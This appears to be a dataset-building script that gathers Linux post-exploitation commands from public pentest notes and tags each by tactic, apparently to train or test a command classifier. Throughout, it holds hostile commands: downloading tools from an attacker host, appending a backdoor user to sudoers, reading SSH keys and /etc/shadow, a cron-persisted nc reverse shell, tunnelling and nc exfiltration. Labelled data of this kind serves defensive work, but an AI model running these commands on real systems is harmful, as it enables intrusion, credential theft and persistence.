S("six2dez/pentest-book", "post-exploitation/linux.md", "47d59da3d7fc95636510e6180ff0952bad9f5bcf")
add(M, "download_execute", "Local Enum (download files from attacker)", r'''
wget http://10.11.1.111:8080/ -r; mv 10.11.1.111:8080 exploits; cd exploits; rm index.html; chmod 700 LinEnum.sh linpeas.sh postenum.sh pspy32 pspy64
''')
add(M, "privilege_escalation", "Local Enum", r'''
./LinEnum.sh -t -k password -r LinEnum.txt
./postenum.sh
./linpeas.sh
./pspy
useradd hacker
echo "hacker ALL=(ALL:ALL) ALL" >> /etc/sudoers
sudo -l -l
find / -perm -777 -type f 2>/dev/null
find / perm /u=s -user `whoami` 2>/dev/null
find / -user root -perm -4000 -print 2>/dev/null
find / perm /u=w -user `whoami` 2>/dev/null
find / -perm /u+w,g+w -f -user `whoami` 2>/dev/null
find / perm /u=w -type -d -user `whoami` 2>/dev/null
''')
add(M, "network_scan", "Local Enum (Nmap without nmap / netstat without netstat)", r'''
for ip in {1..5}; do for port in {21,22,5000,8000,3306}; do (echo >/dev/tcp/172.18.0.$ip/$port) >& /dev/null && echo "172.18.0.$ip port $port is open"; done; done
''')
add(M, "credential_access", "Local Enum (ssh files) / Loot", r'''
cat ~/.ssh/identity
cat ~/.ssh/id_rsa
cat ~/.ssh/id_dsa
cat /etc/ssh/ssh_host_dsa_key
cat /etc/ssh/ssh_host_rsa_key
cat /etc/ssh/ssh_host_key
cat /etc/shadow
unshadow passwd shadow > unshadowed.txt
john --rules --wordlist=/usr/share/wordlists/rockyou.txt unshadowed.txt
tcpdump -i any -s0 -w capture.pcap
tcpdump -i eth0 -w capture -n -U -s 0 src not 10.11.1.111 and dst not 10.11.1.111
tcpdump -vv -i eth0 src not 10.11.1.111 and dst not 10.11.1.111
''')
add(M, "tunnel", "Port Forwarding", r'''
chisel server --auth "test:123" -p 443 --reverse
./chisel client --auth "test:123" 10.10.10.10:443 R:socks
ssh -D 9050 user@host
sshuttle -r root@172.21.0.0 10.2.2.0/24
''')
add("ordinary", None, "Local Enum (common info)", r'''
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
ls -alh /var/spool/cron
cat /etc/issue
cat /etc/group
grep -vE "nologin" /etc/passwd
cat /proc/net/arp
cat /proc/net/fib_trie
cat /proc/net/fib_trie | grep "|--"   | egrep -v "0.0.0.0| 127."
grep -v "rem_address" /proc/net/tcp | awk  '{x=strtonum("0x"substr($2,index($2,":")-2,2)); for (i=5; i>0; i-=2) x = x"."strtonum("0x"substr($2,i,2))}{print x":"strtonum("0x"substr($2,index($2,":")+1,4))}'
cat ~/.ssh/authorized_keys
cat ~/.ssh/id_rsa.pub
cat /etc/ssh/ssh_config
cat /etc/ssh/sshd_config
ifconfig
ifconfig -a
arp -a
echo $DESKTOP_SESSION
echo $XDG_CURRENT_DESKTOP
echo $GDMSESSION
''')
S("six2dez/pentest-book", "post-exploitation/pivoting.md", "7960b5fab1bcdc82093a9c8684ac9b27fb68df68")
add(M, "tunnel", "Pivoting", r'''
ssh noraj@192.168.2.105 -L 127.0.0.1:32000:10.42.42.2:80 -N
ssh noraj@192.168.2.105 -R 192.168.2.105:15000:127.0.0.1:9999
ssh noraj@192.168.2.105 -D 127.0.0.1:12000 -N
sshuttle -r user@host 10.0.0.1/24
ncat -vv --listen 3128 --proxy-type http
ssh -N -R 10.10.1.1:4455:127.0.0.1:445 attacker@10.10.1.1
ssh -N -D 127.0.0.1:8888 admin@10.1.1.1
ssh -N -D 127.0.0.1:1337 user@remotehost -p 8888
chisel server -p 8080 --host 192.168.2.105 -v
chisel client -v http://192.168.2.105:8080 127.0.0.1:33333:10.42.42.2:80
chisel server -p 8888 --host 192.168.2.149 --reverse -v
chisel client -v http://192.168.2.149:8888 R:127.0.0.1:44444:10.42.42.2:80
''')
S("mubix/post-exploitation-wiki", "linux/persistance.md", "6c073bcd01ac612a4979225d7bd6dc57b57c97f5")
add(M, "persistence", "Place Holder", r'''
(crontab -u root -l; echo "*/10 * * * * nc 192.168.100.100 50224 -e /bin/bash") | crontab -u root -
(crontab -u root -l; echo "*/10 * * * * nc -lvp 5555 -e /bin/bash") | crontab -u root -
''')
S("mubix/post-exploitation-wiki", "linux/privesc.md", "6c073bcd01ac612a4979225d7bd6dc57b57c97f5")
add(M, "privilege_escalation", "List Writeable Cron Directories", r'''
ls -aRl /etc/cron* 2>/dev/null | awk '$1 ~ /w.$/' 2>/dev/null
''')
S("Jongtek-23/Notes---Linux-Exploitation---Post-Exploitation", "README.md", "3ca83065dfb4352750418ef173cddb8aa8568d49")
add("ordinary", None, "System and Network Information / User Information / Services / Jobs", r'''
ps auxw
route -n
cat /etc/resolv.conf
netstat -auntp
find / -user username
for user in $(cat /etc/passwd |cut -f1 -d":"); do id $user; done
last -a
cat /etc/passwd |cut -f1,3,4 -d":" |grep "0:0" |cut -f1 -d":" |awk '{print $1}'
ls –als /home/*
service service_name start/stop
ls -als /etc/cron.*
dpkg –l
''')
add(M, "credential_access", "Privileged Access / Cleartext Credentials", r'''
grep "password" /etc/*.conf 2> /dev/null
ls -als /root
find /* -name *.*history* -print 2>/dev/null
cat /etc/mysql/my.cnf
grep -r password /etc/*.conf 2> /dev/null
cat /var/log/apache/access.log |grep -E "^user|^pass"
cat /etc/NetworkManager/system-connections/* |grep -E "^id|^psk"
sudo man -P "cat /etc/shadow" man
''')
add(M, "privilege_escalation", "Services / Jobs / Installed Software", r'''
find /etc/init.d/ ! -uid 0 -type f 2>/dev/null |xargs ls -la
find /etc/cron* -type f -perm - o+w -exec ls -l {} \;
searchsploit "ttpd 2.2"
''')
add(M, "exfiltration", "Transfer file by nc", r'''
nc -w 3 203.0.113.70 1234 < LinEnum.sh
''', note="<target IP> placeholder replaced by 203.0.113.70")
add(M, "privilege_escalation", "Sudo Privileged Access (pager argument)", r'''
man -P "id" man
''')
add("escape", None, "Restricted Shells", r'''
find /home/bob -name test -exec /bin/sh \;
ssh restricted_user@targetserver –t "/bin/sh"
''')
add("ordinary", None, "Restricted Shells", r'''
vi /tmp/test
''')
